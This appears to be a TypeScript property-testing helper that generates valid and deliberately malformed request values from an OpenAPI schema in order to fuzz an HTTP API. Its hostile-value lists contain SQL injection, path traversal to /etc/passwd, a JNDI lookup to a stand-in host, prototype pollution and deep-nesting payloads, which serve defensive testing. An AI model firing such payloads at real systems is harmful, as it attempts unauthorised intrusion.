import fc from 'fast-check'
import { TimestampInput } from '../../src/http/schemas.ts'

/** The parts of a JSON schema that the OpenAPI document uses. */
export interface Schema {
  $ref?: string
  type?: string | string[]
  enum?: unknown[]
  anyOf?: Schema[]
  oneOf?: Schema[]
  pattern?: string
  format?: string
  minLength?: number
  maxLength?: number
  minimum?: number
  maximum?: number
  items?: Schema
  minItems?: number
  maxItems?: number
  properties?: Record<string, Schema>
  required?: string[]
  additionalProperties?: boolean | Schema
  propertyNames?: Schema
  minProperties?: number
  maxProperties?: number
}

/** Values that exist, by the name of their field or parameter. */
export type Pools = Record<string, readonly unknown[]>

const KEYS_MAX = 4

/** Values that no field expects, or on which a parser may fail. */
const HOSTILE: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  -0.5,
  0.1,
  1e308,
  Number.MAX_SAFE_INTEGER,
  '',
  '5',
  '0x10',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'line\r\nbreak',
  '\u202Eevil\u200B',
  "' or 1=1 --",
  '../../etc/passwd',
  '${jndi:ldap://evil}',
  'infinity',
  '2030-02-30T00:00:00Z',
  'x'.repeat(5_000),
  [],
  [5],
  {},
  { constructor: { prototype: {} } },
  Array.from({ length: 2_000 }, () => 0),
]

/** Raw text for a body; JSON.stringify would round or drop these values. */
export const HOSTILE_JSON: readonly string[] = [
  '',
  'null',
  '[]',
  '"x"',
  '{',
  '{"a":1,"a":2}',
  '{"__proto__":{"admin":true}}',
  '{"amount":9007199254740993}',
  '{"amount":1e400}',
  '{"amount":-0}',
  '{"a":"\\ud800"}',
  '['.repeat(100_000),
]

/** Values that a schema allows, as far as the schema expresses it. */
export function valid(schema: Schema, pools: Pools, resolve: (ref: string) => Schema, name = '') {
  return of(schema, name)

  function of(node: Schema, field: string): fc.Arbitrary<unknown> {
    const pool = pools[field]
    const made = fresh(node)
    return pool === undefined
      ? made
      : fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...pool) }, { weight: 1, arbitrary: made })
  }

  function fresh(node: Schema): fc.Arbitrary<unknown> {
    if (node.$ref !== undefined) return fresh(resolve(node.$ref))
    if (node.enum !== undefined) return fc.constantFrom(...node.enum)
    const choices = node.anyOf ?? node.oneOf
    if (choices !== undefined) return fc.oneof(...choices.map(fresh))
    if (Array.isArray(node.type)) {
      return fc.oneof(...node.type.map((type) => fresh({ ...node, type })))
    }
    switch (node.type) {
      case 'null':
        return fc.constant(null)
      case 'boolean':
        return fc.boolean()
      case 'integer':
      case 'number':
        return numbers(node)
      case 'string':
        return strings(node)
      case 'array': {
        const { items = {}, minItems = 0, maxItems = KEYS_MAX } = node
        const maxLength = Math.min(maxItems, minItems + KEYS_MAX)
        return fc.array(fresh(items), { minLength: minItems, maxLength })
      }
      case 'object':
        return objects(node)
      case undefined:
      default:
        return fc.jsonValue()
    }
  }

  function objects(node: Schema): fc.Arbitrary<unknown> {
    const { properties = {}, required = [], additionalProperties } = node
    const own = fc.record(
      Object.fromEntries(Object.entries(properties).map(([key, value]) => [key, of(value, key)])),
      { requiredKeys: required },
    )
    if (additionalProperties === undefined || additionalProperties === false) return own
    const value = additionalProperties === true ? fc.jsonValue() : fresh(additionalProperties)
    const keys = strings(node.propertyNames ?? { minLength: 1 })
    const others = fc.dictionary(keys, value, {
      minKeys: node.minProperties ?? 0,
      maxKeys: Math.min(node.maxProperties ?? KEYS_MAX, KEYS_MAX),
      noNullPrototype: true,
    })
    return fc.tuple(own, others).map(([a, b]) => ({ ...b, ...a }))
  }
}

function numbers(node: Schema): fc.Arbitrary<unknown> {
  const min = node.minimum ?? -1_000_000
  const max = node.maximum ?? Number.MAX_SAFE_INTEGER
  const edges = fc.constantFrom(min, max)
  const small = fc.integer({ min: Math.ceil(min), max: Math.min(Math.ceil(min) + 100, max) })
  if (node.type === 'integer') return fc.oneof(small, small, fc.maxSafeInteger().map(within), edges)
  return fc.oneof(small, fc.double({ min, max, noNaN: true }).map(positiveZero), edges)

  function within(value: number): number {
    return Math.min(max, Math.max(Math.ceil(min), value))
  }
}

function positiveZero(value: number): number {
  return value === 0 ? 0 : value
}

function strings(node: Schema): fc.Arbitrary<string> {
  const { minLength = 0, maxLength = 200 } = node
  if (node.enum !== undefined) return fc.constantFrom(...(node.enum as string[]))
  if (node.format === 'idn-email') return fc.emailAddress()
  if (node.pattern === TimestampInput.pattern) {
    const range = { min: new Date('2020-01-01'), max: new Date('2040-01-01'), noInvalidDate: true }
    return fc.date(range).map((time) => time.toISOString())
  }
  const made =
    node.pattern === undefined
      ? fc.string({ minLength, maxLength })
      : fc.stringMatching(new RegExp(node.pattern))
  return made.filter((text) => text.length >= minLength && text.length <= maxLength)
}

/** The same value, except that one place is hostile, unknown or missing. */
export function nearly(value: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  const change = fc.record({
    place: fc.nat(),
    what: fc.constantFrom('replace', 'replace', 'remove', 'add'),
    hostile: fc.constantFrom(...HOSTILE),
  })
  return fc.tuple(value, change).map(([whole, { place, what, hostile }]) => {
    if (whole === null || typeof whole !== 'object' || Array.isArray(whole)) return hostile
    const entries = Object.entries(whole)
    const index = entries.length === 0 ? 0 : place % entries.length
    const [key = 'unknown', old] = entries[index] ?? []
    if (what === 'add') return { ...whole, unknown_field: hostile }
    if (what === 'remove') return Object.fromEntries(entries.filter((_, at) => at !== index))
    const inner = old !== null && typeof old === 'object' && !Array.isArray(old) && place % 2 === 1
    return { ...whole, [key]: inner ? { ...old, unknown_field: hostile } : hostile }
  })
}
